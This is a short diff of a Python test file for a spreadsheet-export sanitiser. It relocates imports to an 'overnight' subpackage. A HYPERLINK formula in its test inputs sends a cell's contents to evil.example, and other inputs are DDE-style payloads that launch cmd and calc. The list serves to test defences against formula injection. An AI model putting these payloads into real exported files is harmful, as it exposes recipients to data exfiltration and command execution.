@@ -9,9 +9,9 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from aggregator.appointments import COLUMNS
 from aggregator.cli import app
-from aggregator.worklist import FORMULA_STARTS, spreadsheet_safe
+from aggregator.overnight.appointments import COLUMNS
+from aggregator.overnight.worklist import FORMULA_STARTS, spreadsheet_safe
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", "  =1+1", " @x"]
